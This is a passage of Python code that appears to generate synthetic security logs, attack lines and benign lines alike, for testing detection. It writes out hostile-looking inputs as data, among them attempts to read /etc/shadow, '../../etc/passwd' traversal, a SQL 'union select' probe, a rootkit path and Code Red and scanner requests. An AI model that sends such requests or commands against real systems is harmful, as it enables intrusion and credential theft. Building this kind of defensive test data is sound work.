        return "%sBAD SU %s to root on /dev/pts/%d" % (head("su", False), pick(_USERS), rnd.randrange(9))

    def a_sudo_failure():
        user = pick(_USERS[1:])
        if r() < 0.1:
            # doas (OpenBSD's; Alpine, Arch).
            return "%sfailed auth for %s" % (head("doas"), user)
        return "%s%s%s : %s ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            head("sudo", r() < 0.3), " " * rnd.randrange(1, 5), user,
            pick(("3 incorrect password attempts", "1 incorrect password attempt",
                  "2 incorrect password attempts", "a password is required")),
            rnd.randrange(9), user, pick(("/bin/bash", "/usr/bin/apt upgrade", "/bin/cat /etc/shadow")))

    def a_sudo_unauthorised():
        user = pick(_USERS[1:])
        if r() < 0.1:
            return "%scommand not permitted for %s: %s" % (
                head("doas"), user, pick(("cat /etc/shadow", "vi /etc/doas.conf")))
        return "%s%s%s : %s ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            head("sudo", r() < 0.3), " " * rnd.randrange(1, 5), user,
            pick(("user NOT in sudoers", "command not allowed", "user NOT authorized on host")),
            rnd.randrange(9), user, pick(("/bin/bash", "/usr/bin/id", "/bin/su -")))

    def a_audit_denied():
        if r() < 0.08:
            # setroubleshoot's summary of the denial (Fedora, RHEL).
            return "%sSELinux is preventing %s from %s access on the file %s. For complete" \
                   " SELinux messages run: sealert -l %08x-%04x" % (
                       head("setroubleshoot"), pick(("/usr/sbin/httpd", "/usr/sbin/sshd")),
                       pick(("read", "write", "getattr")), pick(("index.html", "shadow")),
                       rnd.randrange(1 << 32), rnd.randrange(1 << 16))
        form = r()
        if form < 0.3:
            return audit("AVC") + "avc:  denied  { %s } for  pid=%d comm=\"%s\" name=\"%s\"" \
                " dev=\"sda1\" ino=%d scontext=system_u:system_r:httpd_t:s0" \
                " tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0" % (
                    pick(("read", "write", "open", "getattr")), rnd.randrange(99999),
                    pick(("httpd", "nginx", "php-fpm")), pick(("shadow", "id_rsa", "secret.key")),
                    rnd.randrange(999999))
        if form < 0.45:
            return audit("AVC") + "apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/cupsd\"" \
                " name=\"/etc/shadow\" pid=%d comm=\"cupsd\" requested_mask=\"r\"" \
                " denied_mask=\"r\" fsuid=0 ouid=0" % rnd.randrange(99999)
        if form < 0.8:
            return audit("SYSCALL") + syscall("no", pick(("-13", "-1")), pick(('"shadow"', "(null)")),
                                              pick(("/tmp/.x/kit", "/usr/bin/cat")), "kit")
        return audit("USER_AUTH") + "pid=%d uid=0 auid=4294967295 ses=4294967295" \
            " subj=unconfined msg='op=PAM:authentication grantors=? acct=\"%s\"" \
            " exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh res=failed'" % (
                rnd.randrange(99999), pick(_USERS), src(), src())

    def a_audit_watch():
        if r() < 0.15:
            # As ausearch -i prints it: time, names, the key interpreted.
            s = stamp()
            return "type=SYSCALL msg=audit(%s.%03d:%d) : arch=x86_64 syscall=%s success=%s" \
                   " a0=AT_FDCWD a1=0x7ffd1 a2=O_WRONLY|O_CREAT a3=0x1b6 items=2 ppid=%d" \
                   " pid=%d auid=%s uid=root gid=root euid=root comm=vi exe=/usr/bin/vim" \
                   " key=%s" % (
                       time.strftime("%m/%d/%Y %H:%M:%S", time.gmtime(int(s["audit"]))),
                       rnd.randrange(1000), rnd.randrange(1000, 999999),
                       pick(("openat", "unlink", "rename")),
                       pick(("yes exit=3", "yes exit=0",
                             "no exit=ENOENT(No such file or directory)")),
                       rnd.randrange(2, 30000), rnd.randrange(2, 30000), pick(_USERS),
                       pick(("identity", "shadow", "sudoers")))
        success = r() < 0.8
        return audit("SYSCALL") + syscall("yes" if success else "no",
                                          pick(("0", "3")) if success else "-2",
                                          '"%s"' % pick(("shadow", "sshd_config", "sudoers",
                                                         "identity")))

    def filterlog(action, source=None):
        """
        pf's filterlog (pfSense, OPNsense): rule, sub-rule, anchor,
        tracker, interface, reason, action, direction, then the packet
        (IPv4 or IPv6; TCP, UDP or ICMP).
        """
        source = source or src()
        six = ":" in source
        dst = pick(inside) if not six else "2001:db8::%x" % rnd.randrange(1, 999)
        proto = pick(("tcp", "tcp", "udp", "icmp")) if not six else pick(("tcp", "udp"))
        ident = {"tcp": 6, "udp": 17, "icmp": 1}[proto]
        if six:
            packet = "6,0x00,0x00000,%d,%s,%d,%d,%s,%s" % (
                rnd.randrange(1, 256), proto, ident, rnd.randrange(20, 1500), source, dst)
        else:
            packet = "4,0x0,,%d,%d,0,DF,%d,%s,%d,%s,%s" % (
                rnd.randrange(1, 256), rnd.randrange(65536), ident, proto,
                rnd.randrange(20, 1500), source, dst)
        if proto == "tcp":
            packet += ",%d,%d,0,S,%d,,64240,,mss" % (port(), pick((22, 23, 80, 443, 3389)),
                                                    rnd.randrange(1 << 32))
        elif proto == "udp":
            packet += ",%d,%d,%d" % (port(), pick((53, 123, 161, 1900)), rnd.randrange(8, 512))
        else:
            packet += ",request,%d,%d" % (rnd.randrange(65536), rnd.randrange(1, 99))
        return "%s%s,,,%s,%s,match,%s,%s,%s" % (
            head("filterlog"), pick(("5", "77", "1000000103")),
            pick(("1000000103", "02f4bab031b57d1e30553ce08e0ec131")),
            pick(("vtnet0", "igb0", "em0")), action, pick(("in", "in", "out")), packet)

    def a_fw_drop():
        if r() < 0.1:
            return filterlog("block")
        return netfilter(pick(_FW_DROP))

    def a_fw_reject():
        if r() < 0.1:
            return filterlog("reject")
        return netfilter(pick(_FW_REJECT))

    def a_web_codered():
        if r() < 0.15:
            return webError("File does not exist: /var/www/html/%s" % pick(
                ("default.ida", "scripts/root.exe", "MSADC/root.exe", "c/winnt/system32/cmd.exe")))
        if r() < 0.25:
            return web(pick(_EXPLOITS), pick((404, 400, 200)), pick(("-",) + _AGENTS[:1]))
        return web(pick(_CODERED), pick((404, 400, 403)), pick(("-",) + _AGENTS[:1]))

    def a_web_traversal():
        if r() < 0.1:
            return webError("Invalid URI in request GET /../../etc/passwd HTTP/1.1")
        if r() < 0.05:
            # nginx's error log: the password file looked for under the root.
            return nginxError('open() "/var/www/html/etc/passwd" failed (2: No such file or'
                              ' directory)', request="GET /static/../../etc/passwd HTTP/1.1")
        return web(pick(_TRAVERSALS), pick((400, 403, 404, 200)))

    def a_web_sqli():
        url = pick(_SQLI)
        # Most clients encode the spaces; attack tools may not.
        return web(url.replace(" ", "%20") if r() < 0.7 else url, pick((200, 500, 403)))

    def a_web_xss():
        return web(pick(_XSS), pick((200, 400, 403)))

    def a_web_scanner():
        if r() < 0.05:
            # DFind's probe has no Host header: Apache 2.2 logs an error,
            # 2.4 a debug message (AH00569).
            message = "client sent HTTP/1.1 request without hostname (see RFC2616 section" \
                      " 14.23): /w00tw00t.at.%s:)" % pick(("ISC.SANS.DFind", "ISC.SANS.test0",
                                                         "blackhats.romanian.anti-sec"))
            return webError(message, level="debug", code="AH00569", source="protocol.c")
        if r() < 0.2:
            return web(pick(_SCAN_URLS), pick((400, 404)))
        agent = pick(_SCANNER_AGENTS)
        if "%06d" in agent:
            agent %= rnd.randrange(999999)
        s = stamp()
        return '%s - - [%s] "GET %s HTTP/1.1" %d %d "-" "%s"' % (
            src(), s["apache"], pick(("/admin/", "/.git/config", "/phpmyadmin/", "/backup.zip",
                                      "/", "/cgi-bin/test.cgi")), pick((404, 404, 200, 403)),
            rnd.randrange(100, 5000), agent)

    def a_web_auth():
        user = pick(_BAD_USERS + _USERS + ("",))
        if r() < 0.25:
            # In an access log: a login form refused (WordPress, Drupal: the
            # form again, 200), WordPress's XML-RPC, a user name refused (401).
            client, at = src(), stamp()["apache"]
            site = pick(("", "www.example.org:443 ", "shop.example.net:80 "))
            form = r()
            if form < 0.7:
                url = pick(("/wp-login.php", "/blog/wp-login.php", "/xmlrpc.php", "/user/login",
                            "/wp-login.php?redirect_to=%2Fwp-admin%2F"))
                return '%s%s - - [%s] "POST %s HTTP/1.1" 200 %d "%s" "%s"' % (
                    site, client, at, url, rnd.randrange(400, 9000),
                    pick(("-", "https://www.example.org" + url.split("?")[0])), pick(_AGENTS))
            return '%s%s - %s [%s] "GET /%s HTTP/1.1" 401 459 "-" "%s"' % (
                site, client, user or "admin", at, pick(("nagios/", "private/", "admin/")),
                pick(_AGENTS))
        form = r()
        if form < 0.3:
            # nginx's auth_basic.
            if r() < 0.6:
                return nginxError('user "%s": password mismatch' % user)
            return nginxError('user "%s" was not found in "/etc/nginx/.htpasswd"' % user)
        if form < 0.38:
            # mod_authnz_ldap: a wrong password, a user the directory lacks
            # (2.2 put its pid first).
            message = "auth_ldap authenticate: user %s authentication failed; URI /%s %s" % (
                user or "svc-backup", pick(("secure/", "intranet/")), pick((
                    "[ldap_bind() to check user credentials failed][Invalid credentials]",
                    "[User not found][No such object]")))
            return webError(message, module="authnz_ldap", code="AH01695", level="info",
                            old="[%d] %s" % (rnd.randrange(300, 65000), message))
        form = r()
        if form < 0.35:
            return webError("user %s: authentication failure for \"/%s\": Password Mismatch" % (
                user, pick(("admin", "private/", "basic/file"))), module="auth_basic",
                code="AH01617")
        if form < 0.7:
            return webError("user %s not found: /%s" % (user, pick(("", "admin/", "private/x"))),
                            module="auth_basic", code="AH01618")
        if form < 0.85:
            if r() < 0.5:
                return webError("Digest: user %s: password mismatch: /digest/" % user)
            return webError("user %s: password mismatch: /digest/" % user, module="auth_digest",
                            code="AH01792")
        message = "user `%s' in realm `private area' not found: /digest/" % user
        if r() < 0.5:
            return webError("Digest: " + message)
        return webError(message, module="auth_digest", code="AH01790")

    def a_web_modsecurity():
        tags = ('[file "/etc/modsecurity/crs/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"]'
                ' [line "%d"] [id "%d"] [msg "%s"] [severity "CRITICAL"]' % (
                    rnd.randrange(40, 900), rnd.randrange(900000, 999999),
                    pick(("SQL Injection Attack Detected via libinjection",
                          "Request Missing an Accept Header", "Host header is a numeric IP"))))
        tail = ' [hostname "www.example.org"] [uri "/%s"] [unique_id "X%d"]' % (
            pick(("", "login.php", "wp-login.php")), rnd.randrange(10 ** 9))
        client = src()
        if r() < 0.25:
            # ModSecurity v3 through nginx's connector: a denial at [error],
            # its other reports lower.
            matched = 'Matched "Operator `Ge\' with parameter `5\' against variable' \
                      ' `TX:ANOMALY_SCORE\' (Value: `%d\' ) [file "/etc/nginx/crs/rules/' \
                      'REQUEST-949-BLOCKING-EVALUATION.conf"] [line "80"] [id "949110"] [rev ""]' \
                      ' [msg "Inbound Anomaly Score Exceeded (Total Score: %d)"] [data ""]' \
                      ' [severity "2"] [ver "OWASP_CRS/3.3.4"] [hostname "10.0.0.80"] [uri "/"]' \
                      ' [unique_id "1709937913%d"] [ref ""]' % (
                          rnd.randrange(5, 30), rnd.randrange(5, 30), rnd.randrange(10 ** 6))
            if r() < 0.6:
                return nginxError("[client %s] ModSecurity: Access denied with code 403 (phase"
                                  " 2). %s" % (client, matched), client=client)
            return nginxError("[client %s] ModSecurity: Warning. %s" % (client, matched),
                              level=pick(("warn", "info")), client=client)
        second = "[client %s] " % client if r() < 0.2 else ""
        form = r()
        if form < 0.4:
            message = "ModSecurity: Access denied with code %d (phase 2). Pattern match at" \
                      " ARGS:id. %s%s" % (pick((403, 403, 406, 401)), tags, tail)
        elif form < 0.7:
            # 2.7 and earlier: the tags first.
            message = "ModSecurity: %s%s Access denied with code 403 (phase 2).%s" % (
                pick(("", " ")), tags, tail)
        else:
            message = "ModSecurity: Warning. Pattern match at ARGS:q. %s%s" % (tags, tail)
        return webError(second + message, client=client, module=pick(("security2", "")))

    def a_web_malformed():
        if r() < 0.3:
            # nginx: a request line it cannot parse (a TLS handshake, a
            # method of bytes, a URI too long for its buffers).
            return nginxError(pick((
                "client sent invalid method while reading client request line",
                "client sent invalid request while reading client request line",
                "client sent invalid method in HTTP/0.9 request while reading client request line",
                "client sent too long URI while reading client request line",
                'client sent invalid header line: "User-Agent\\x00: x" while reading client'
                " request headers",
                'client sent too long header line: "Cookie: 1cD3uIAflVivXiXLJ8K2SpN..." while'
                " reading client request headers")),
                level="info", request=pick(('\\x16\\x03\\x01\\x00\\xA5\\x01',
                                            "GET /%s HTTP/1.1" % ("A" * 40), False)))
        form = r()
        if form < 0.4:
            return webError("Invalid URI in request %s" % pick((
                "\\xf9h\\xa9\\xf3\\x88\\x8cXKj \\xbf-l*4\\x87n",
                "GET /%%%%%%%% HTTP/1.1", "x\\xb2\\xa1:SMl\\xcc{\\xfd")), code="AH00126")
        if form < 0.6:
            return webError("Invalid method in request %s" % pick((
                "NOOP", "\\x16\\x03\\x01 - possible attempt to establish SSL connection when"
                " the server isn't expecting it")), code="AH00135")
        if form < 0.7:
            return webError("request failed: URI too long (longer than 8190)", code="AH00565")
        if form < 0.8:
            # Apache 2.4's later wording.
            return webError("request failed: client's request-line exceeds LimitRequestLine"
                            " (longer than 8190)", code="AH00565", level="info")
        if form < 0.9:
            # 2.4.25's strict request line (a debug line names its source
            # file), headers too many or too long; 2.2's unreadable headers.
            message, code, level, source = pick((
                ("HTTP Request Line; Invalid method token: '\\x16\\x03\\x01'", "AH03445",
                 "debug", "protocol.c"),
                ("HTTP Request Line; Unrecognized protocol 'HTTP/1.1x' (perhaps whitespace was"
                 " injected?)", "AH02418", "debug", "protocol.c"),
                ("Request header exceeds LimitRequestFieldSize: Cookie", "AH00561", "info", None),
                ("Number of request headers exceeds LimitRequestFields", "AH00563", "info", None)))
            return webError(message, code=code, level=level, source=source,
                            old="request failed: error reading the headers")
        if form < 0.93:
            return webError("request failed: erroneous characters after protocol string: %s"
                            % pick(("User-Agent: Mozilla/5.0", "Host: www.example.org")))
        if form < 0.96:
            # An HTTP/1.1 request without a Host header (a client or a scanner
            # that writes its own requests): Apache answers 400.
            return webError("client sent HTTP/1.1 request without hostname (see RFC2616 section"
                            " 14.23): /", code="AH00569", level="debug", source="protocol.c")
        # No HTTP at all in the access log, answered 400: a TLS handshake on
        # the plain port, SSH's and WebLogic T3's banners, escaped bytes.
        line = web("/", status=400)
        request = pick(("\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03",
                        "SSH-2.0-Go", "t3 12.2.1\\nAS:255\\nHL:19\\n\\n", "GET /\\x00 HTTP/1.1"))
        if "haproxy[" in line:
            # HAProxy logs what it could not parse as <BADREQ>, its state PR--.
            request = "<BADREQ>"
            line = re.sub(r" (?:----|--NI|SD--|CD--) ", " PR-- ", line, count=1)
        return re.sub(r'"[A-Z]+ / HTTP/1\.1"', lambda _: '"%s"' % request, line, count=1)

    def eximLog():
        # Exim's own main log: "2024-12-01 00:00:01 [pid] ".
        return "%s %s" % (stamp()["iso"][:19].replace("T", " "),
                          "[%d] " % rnd.randrange(300, 65000) if r() < 0.5 else "")

    def a_ftp_auth():
        # vsftpd (syslog, its own log), ProFTPD, Pure-FTPd.
        user, client = pick(_USERS + _BAD_USERS), src()
        form = r()
        if form < 0.3:
            return '%s[%s] FAIL LOGIN: Client "%s"' % (head("vsftpd"), user, mapped(client))
        if form < 0.5:
            s = stamp()
            return '%s [pid %d] [%s] FAIL LOGIN: Client "%s"' % (
                s["ctime"], rnd.randrange(300, 65000), user, client)
        if form < 0.8:
            if r() < 0.2:
                # MaxLoginAttempts reached, RootLogin off.
                return "%s%s (%s[%s]) - %s" % (
                    head("proftpd"), pick(_HOSTS), mapped(client), mapped(client),
                    pick(("Maximum login attempts (3) exceeded",
                          "SECURITY VIOLATION: Root login attempted")))
            return "%s%s (%s[%s]) - USER %s%s" % (
                head("proftpd"), pick(_HOSTS), mapped(client), mapped(client), user,
                pick((" (Login failed): Incorrect password",
                      ": no such user found from %s [%s] to 10.0.0.1" % (client, client))))
        return "%s(?@%s) [WARNING] Authentication failed for user [%s]" % (
            head("pure-ftpd", False), client, user)

    def a_mail_auth():
        if r() < 0.04:
            # OpenSMTPD.
            return "%s%016x smtp %sauthentication user=%s@example.org result=permfail" % (
                head("smtpd"), rnd.randrange(1 << 64), pick(("", "event=")), pick(_USERS))
        if r() < 0.05:
            # Dovecot 2.3.2x's auth worker.
            return "%sauth-worker(%s,%s)<%d><%s>: request [%d]: unix_user: pam_authenticate()" \
                   " failed: Authentication failure (Password mismatch?)" % (
                       head("dovecot"), pick(_USERS), src(), rnd.randrange(99999),
                       pick(("XwG+a/b1", "Ab3dE/9k")), rnd.randrange(999))
        form = r()
        if form < 0.3:
            return "%swarning: %s[%s]: SASL %s authentication failed: %s" % (
                head("postfix/smtpd"), pick(("unknown", "host-%d.example.net" % rnd.randrange(99))),
                src(), pick(("LOGIN", "PLAIN")), pick(("UGFzc3dvcmQ6", "authentication failure")))
        if form < 0.6:
            what, reason = pick((("Disconnected", ""), ("Aborted login", ""),
                                 ("Info: Disconnected", ""),
                                 # Dovecot 2.3.14 and later.
                                 ("Login aborted: Connection closed", " (auth_failed)")))
            return "%s%s: %s (auth failed, %d attempts in %d secs)%s: user=<%s>, method=PLAIN," \
                   " rip=%s, lip=10.0.0.25, session=<Xa3b>" % (
                       head("dovecot", r() < 0.5), pick(("imap-login", "pop3-login")), what,
                       rnd.randrange(1, 4), rnd.randrange(1, 30), reason, pick(_USERS),
                       mapped(src()))
        if form < 0.75:
            # Exim, in its own log or through syslog, with the interface or not.
            return "%s%s authenticator failed for %s [%s]:%d%s: 535 Incorrect authentication" \
                   " data (set_id=%s)" % (
                       eximLog() if r() < 0.5 else head("exim"),
                       pick(("dovecot_login", "dovecot_plain", "auth_plain", "fixed_login")),
                       pick(("(User)", "(ylmf-pc)", "bad.example.net")), src(), port(),
                       pick(("", " I=[10.0.0.25]:587", " I=[10.0.0.25]:25")), pick(_USERS))
        if form < 0.82:
            address = src()
            return "%serror,relay=%s,%smsg=\"535 Authentication failed.\",cmd: AUTH %s" % (
                head("courieresmtpd", r() < 0.5), "::ffff:" + address if "." in address
                else address, pick(("", "port=%d," % port())), pick(("LOGIN", "PLAIN")))
        if form < 0.9:
            return "%sbadlogin: %s [%s] %s %s SASL(-13): authentication failure: checkpass" \
                   " failed" % (head(pick(("cyrus/imap", "cyrus/imaps", "cyrus/pop3", "imapd"))),
                                pick(("unknown", "bad.example.net")), src(),
                                pick(("plaintext", "PLAIN", "LOGIN")), pick(_USERS))
        return "%s%s: AUTH failure (LOGIN): authentication failure (-13) SASL(-13):" \
               " authentication failure: checkpass failed, user=%s, relay=[%s]" % (
                   head("sendmail"), "wB%dx" % rnd.randrange(99999), pick(_USERS), src())

    def a_mail_suspicious():
        if r() < 0.1:
            # A client a DNS blocklist names; one over postfix's anvil limits.
            client = src()
            if r() < 0.6:
                return "%sNOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 Service unavailable;" \
                       " Client host [%s] blocked using zen.spamhaus.org; from=<o@x.example>" \
                       " to=<%s@victim.example> proto=ESMTP helo=<ylmf-pc>" % (
                           head("postfix/smtpd"), client, client, pick(_USERS))
            return "%swarning: Connection rate limit exceeded: %d from unknown[%s] for service" \
                   " smtp" % (head("postfix/smtpd"), rnd.randrange(31, 90), client)
        if r() < 0.05:
            # sendmail's denlstring: a newline smuggled into a command.
            return "%s%s: POSSIBLE ATTACK from %s[%s]: newline in string \"x RCPT TO: <%s@b>\"" % (
                head(pick(("sendmail", "sm-mta"))), "wB%dx" % rnd.randrange(99999),
                pick(("", "scan.example ")), src(), pick(_BAD_USERS))
        form = r()
        if form < 0.35:
            return "%sNOQUEUE: reject: RCPT from %s[%s]: 554 5.7.1 <%s@%s>: Relay access denied;" \
                   " from=<%s@spam.example> to=<%s@%s> proto=ESMTP helo=<x>" % (
                       head("postfix/smtpd"), pick(("unknown", "mx.spam.example")), src(),
                       pick(_USERS), "victim.example", pick(_BAD_USERS), pick(_USERS),
                       "victim.example")
        if form < 0.5:
            return "%s%s: %s[%s]: possible SMTP attack: command=AUTH, count=%d" % (
                head("sendmail"), "wB%dx" % rnd.randrange(99999),
                pick(("", "host.spam.example ")), src(), rnd.randrange(3, 9))
        if form < 0.6:
            return "%s%s: %s [%s] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA" % (
                head("sendmail"), "wB%dx" % rnd.randrange(99999), pick(("unknown", "scan.example")),
                src())
        if form < 0.68:
            return "%sPREGREET %d after %.2f from [%s]:%d: EHLO ylmf-pc\\r\\n" % (
                head("postfix/postscreen"), rnd.randrange(11, 40), r(), src(), port())
        if form < 0.76:
            user = pick(_BAD_USERS)
            return "%s%s: ruleset=check_rcpt, arg1=<%s@victim.example>, relay=%s[%s], reject=550" \
                   " 5.7.1 <%s@victim.example>... Relaying denied. Proper authentication" \
                   " required." % (head(pick(("sendmail", "sm-mta"))), "wB%dx" % rnd.randrange(99999),
                                   user, pick(("", "scan.example ")), src(), user)
        if form < 0.85:
            return "%s%s: %s[%s]: %s %s [rejected]" % (
                head(pick(("sendmail", "sm-mta"))), "wB%dx" % rnd.randrange(99999),
                pick(("", "scan.example ")), src(), pick(("EXPN", "VRFY", "expn", "vrfy")),
                pick(_BAD_USERS))
        if form < 0.92:
            return "%sSMTP call from %s[%s]:%d I=[10.0.0.25]:25 dropped: too many %s" % (
                eximLog(), pick(("", "scan.example ", "(ylmf-pc) ")), src(), port(), pick((
                    "nonmail commands (last was \"RSET\")",
                    "syntax or protocol errors (last command was \"AUTH LOGIN\")")))
        if form < 0.96:
            return "%sSMTP protocol error in \"%s\" H=(%s) [%s]:%d I=[10.0.0.25]:587 AUTH command" \
                   " used when not advertised" % (eximLog(), pick(("AUTH LOGIN", "auth login")),
                                                  pick(("ylmf-pc", "User")), src(), port())
        return "%s%s from %s[%s]: %s" % (head("postfix/smtpd"), pick(("improper command pipelining"
                                         " after EHLO", "non-SMTP command")),
                                         pick(("unknown", "scan.example")), src(),
                                         pick(("QUIT", "GET / HTTP/1.1")))

    attacks = [(name[2:], fn) for name, fn in sorted(locals().items()) if name.startswith("a_")]

    # Informational and benign lines --------------------------------------------
    def i_accepted():
        return "%sAccepted %s for %s from %s port %d ssh2%s" % (
            sshd(), pick(("publickey", "password", "keyboard-interactive/pam")), pick(_USERS),
            pick(inside + outside[:20]), port(), pick(("", ": ED25519 SHA256:3kJ0dn1")))

    def i_fw_accept():
        if r() < 0.1:
            return filterlog("pass", pick(inside))
        return netfilter(pick(_FW_ACCEPT), pick(inside))

    def b_ssh():
        user, where, form = pick(_USERS), pick(inside), r()
        if form < 0.3:
            return "%spam_unix(sshd:session): session opened for user %s(uid=1000) by" \
                   " (uid=0)" % (sshd(), user)
        if form < 0.47:
            return "%spam_unix(sshd:session): session closed for user %s" % (sshd(), user)
        if form < 0.5:
            return "%smessage repeated %d times: [ Received disconnect from %s port 22:11:" \
                   " disconnected by user]" % (sshd(), rnd.randrange(2, 6), where)
        if form < 0.65:
            return "%sReceived disconnect from %s port %d:11: disconnected by user" % (
                sshd(), where, port())
        if form < 0.8:
            return "%sDisconnected from user %s %s port %d" % (sshd(), user, where, port())
        if form < 0.85:
            return "%sConnection closed by %s port %d [preauth]" % (sshd(), where, port())
        if form < 0.9:
            # A client that left at the password prompt (after a failure, its
            # own line, or none): a disconnect, no attack.
            return "%s%s authenticating user %s %s port %d [preauth]" % (
                sshd(), pick(("Connection closed by", "Connection reset by", "Disconnected from")),
                user, where, port())
        return "%sServer listening on %s port 22." % (sshd(), pick(("0.0.0.0", "::")))

    def b_pam():
        service = pick(_PAM_SERVICES)
        if r() < 0.05:
            # SSSD's and google-authenticator's successes, unix_chkpwd's other complaint.
            return pick((
                "%spam_sss(%s:auth): authentication success; logname= uid=0 euid=0 tty=ssh"
                " ruser= rhost=%s user=%s" % (head(service.split("-")[0]), service, src(),
                                               pick(_USERS)),
                "%sAccepted google_authenticator for %s" % (
                    head("sshd(pam_google_authenticator)"), pick(_USERS)),
                "%scould not obtain user info (%s)" % (head("unix_chkpwd"), pick(_USERS))))
        return "%spam_unix(%s:session): session %s for user %s%s" % (
            head(service.split("-")[0]), service, pick(("opened", "closed")), pick(_USERS),
            pick(("", " by (uid=0)", "(uid=0) by alice(uid=1000)")))

    def b_sudo():
        user = pick(_USERS[1:])
        return "%s%s%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            head("sudo", r() < 0.3), " " * rnd.randrange(1, 5), user, rnd.randrange(9), user,
            pick(("/usr/bin/apt update", "/bin/cat /etc/passwd", "/usr/bin/grep 'Failed password'"
                  " /var/log/auth.log", "/usr/bin/grep -c '3 incorrect password attempts'"
                  " /var/log/secure", "/usr/bin/tail -f /var/log/secure",
                  "/usr/bin/journalctl -u sshd --grep=authentication failure",
                  "/usr/sbin/iptables -A INPUT -j DROP", "/usr/bin/less /var/log/audit/audit.log",
                  "/usr/bin/curl http://127.0.0.1/?q=union+select")))

    def b_su():
        form = r()
        if form < 0.6:
            return "%s(to root) %s on pts/%d" % (head("su", r() < 0.5), pick(_USERS),
                                                 rnd.randrange(9))
        if form < 0.8:
            return "%s+ /dev/pts/%d %s:root" % (head("su"), rnd.randrange(9), pick(_USERS))
        return "%sSuccessful su for root by %s" % (head("su"), pick(_USERS))

    def b_cron():
        return "%s(%s) CMD (%s)" % (head(pick(("CRON", "/usr/sbin/cron"))), pick(_USERS),
                                    pick(("/usr/lib/sa/sa1 1 1", "run-parts /etc/cron.hourly",
                                          "/usr/local/bin/backup.sh --incremental")))

    def b_audit():
        if r() < 0.1:
            # A rule on a system call alone (no path), a key logging every command.
            if r() < 0.5:
                return audit("SYSCALL") + 'arch=c000003e syscall=159 success=yes exit=0' \
                    ' a0=7ffd5c1e a1=0 a2=0 a3=0 items=0 ppid=1 pid=442 auid=4294967295 uid=992' \
                    ' gid=990 comm="chronyd" exe="/usr/sbin/chronyd" key="time-change"'
            return audit("SYSCALL") + 'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1' \
                ' a2=55d2 a3=0 items=2 ppid=811 pid=812 auid=1000 uid=1000 gid=1000' \
                ' comm="%s" exe="/usr/bin/%s" key="exec"' % ((pick(("ls", "git", "vim")),) * 2)
        form = r()
        if form < 0.4:
            return audit("SYSCALL") + syscall("yes", pick(("0", "3")), "(null)")
        if form < 0.6:
            return audit("SYSCALL") + syscall("no", "-2", "(null)", "/bin/ls", "ls")
        if form < 0.8:
            return audit("PATH") + "item=0 name=\"/etc/shadow\" inode=%d dev=08:01 mode=0100640" \
                " ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0" % rnd.randrange(999999)
        return audit(pick(("USER_AUTH", "USER_START", "CRED_ACQ"))) + "pid=%d uid=0" \
            " auid=1000 ses=3 msg='op=PAM:%s acct=\"%s\" exe=\"/usr/bin/sudo\" hostname=?" \
            " addr=? terminal=/dev/pts/1 res=success'" % (rnd.randrange(99999), pick((
                "authentication", "session_open")), pick(_USERS))

    def b_kernel():
        if r() < 0.5:
            return netfilter(pick(_FW_NEUTRAL))
        s = stamp()
        return "%s %s kernel: [%d.%06d] %s" % (
            s["syslog"], pick(_HOSTS), rnd.randrange(99999), rnd.randrange(999999), pick((
                "e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx",
                "EXT4-fs (sda1): mounted filesystem with ordered data mode",
                "usb 1-1: new high-speed USB device number 4 using ehci-pci",
                "TCP: request_sock_TCP: Possible SYN flooding on port 80. Dropping request.")))

    def b_web():
        if r() < 0.03:
            # A login that worked (a redirect), the form shown, a challenge
            # answered without a user name, Jetpack's XML-RPC.
            client, at = pick(outside + inside), stamp()["apache"]
            return pick((
                '%s - - [%s] "POST /wp-login.php HTTP/1.1" 302 0 "-" "Mozilla/5.0"',
                '%s - - [%s] "GET /wp-login.php HTTP/1.1" 200 4812 "-" "Mozilla/5.0"',
                '%s - - [%s] "POST /wp-login.php?action=lostpassword HTTP/1.1" 200 4812 "-"'
                ' "Mozilla/5.0"',
                '%s - - [%s] "POST /user/login HTTP/1.1" 303 0 "-" "Mozilla/5.0"',
                '%s - - [%s] "GET /nagios/ HTTP/1.1" 401 459 "-" "Mozilla/5.0"',
                '%s - - [%s] "POST /xmlrpc.php HTTP/1.1" 200 403 "-" "Jetpack by WordPress.com"',
            )) % (client, at)
        url = pick(_URLS)
        if "%s" in url:
            url %= pick(_WORDS)
        return web(url, client=pick(outside + inside))

    def b_web_error():
        # Access control and authentication protocol noise (not a password
        # guessed), ModSecurity's own notices, look-alikes in a path.
        return webError(pick(("File does not exist: /var/www/html/favicon.ico",
                              "client denied by server configuration: /var/www/html/.htaccess",
                              "script '/var/www/html/wp-login.php' not found or unable to stat",
                              "client used wrong authentication scheme: /private/",
                              "Authorization of user %s to access /private/x failed, reason:"
                              " file owner dan does not match" % pick(_USERS),
                              "user %s: authorization failure for \"/admin/\": " % pick(_USERS),
                              "Digest: invalid nonce JDiBAA=db9372522295 received - length is"
                              " not 52",
                              "Digest: realm mismatch - got `x' but expected `private area'",
                              "No hostname was provided via SNI for a name based virtual host",
                              "File does not exist: /var/www/html/user root not found",
                              "File does not exist: /var/www/html/ModSecurity: Access denied",
                              "File does not exist: /var/www/html/Invalid URI in request",
                              "ModSecurity for Apache/2.9.3 configured.",
                              # ModSecurity's own error during a request.
                              "ModSecurity: collections_remove_stale: Failed to access DBM"
                              " file \"/var/cache/modsecurity/ip\": Permission denied",
                              # The LDAP server's fault, not the client's.
                              "auth_ldap authenticate: user %s authentication failed; URI"
                              " /secure/ [LDAP: ldap_simple_bind() failed][Can't contact LDAP"
                              " server]" % pick(_USERS))),
                        client=pick(outside + inside))

    def b_nginx_error():
        # nginx's routine errors and look-alikes: a missing file, a login
        # asked for (no credentials yet), a client gone, words of the
        # rules in a path, ModSecurity's start-up notice.
        form = r()
        if form < 0.4:
